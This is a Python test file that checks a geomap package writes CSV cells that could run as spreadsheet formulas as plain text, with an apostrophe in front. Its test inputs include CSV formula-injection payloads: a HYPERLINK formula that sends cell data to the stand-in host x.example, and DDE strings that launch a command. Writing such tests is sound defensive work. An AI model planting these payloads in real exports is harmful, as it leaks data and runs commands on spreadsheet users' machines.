"""CSV files geomap writes are opened in spreadsheets: untrusted text that a spreadsheet would run
as a formula is written as text (an apostrophe first), numbers and ordinary text unchanged."""

from __future__ import annotations

import csv

import geopandas as gpd
import pandas as pd
from shapely.geometry import Point

from geomap._atomic import atomic_csv
from geomap.export.tables import write_table

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


def _cells(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_formulas_in_text_cells_are_written_as_text(tmp_path):
    frame = pd.DataFrame({"notes": [*HOSTILE, "Shelling of Kupiansk", "-12.5", None],
                          "fatalities": [1, 2, 3, 4, 5, 6, -7, 0]})
    atomic_csv(frame, tmp_path / "links.csv")
    rows = _cells(tmp_path / "links.csv")[1:]
    notes = [r[0] for r in rows]
    assert notes[:5] == ["'" + h for h in HOSTILE]
    assert notes[5:] == ["Shelling of Kupiansk", "-12.5", ""]
    assert [r[1] for r in rows] == ["1", "2", "3", "4", "5", "6", "-7", "0"]
    assert frame["notes"][0] == HOSTILE[0]  # the caller's frame is not changed


def test_exported_csv_tables_are_defused_too(tmp_path):
    gdf = gpd.GeoDataFrame({"actor1": ["=1+1", "Military Forces of Ukraine"]},
                           geometry=[Point(36.2, 49.99), Point(37.5, 48.6)], crs="EPSG:4326")
    write_table(gdf, tmp_path / "events.csv")
    rows = _cells(tmp_path / "events.csv")
    assert [r[0] for r in rows[1:]] == ["'=1+1", "Military Forces of Ukraine"]


def test_empty_and_all_missing_text_columns_are_written(tmp_path):
    # an empty table (pandas' string dtype cannot reduce 'any' over an empty column) and a
    # column of missing values
    empty = pd.DataFrame({"notes": pd.Series([], dtype="string"), "n": pd.Series([], dtype=int)})
    atomic_csv(empty, tmp_path / "empty.csv")
    assert _cells(tmp_path / "empty.csv") == [["notes", "n"]]
    missing = pd.DataFrame({"notes": pd.Series([None, None], dtype="string")})
    atomic_csv(missing, tmp_path / "missing.csv")
    assert _cells(tmp_path / "missing.csv") == [["notes"], [""], [""]]
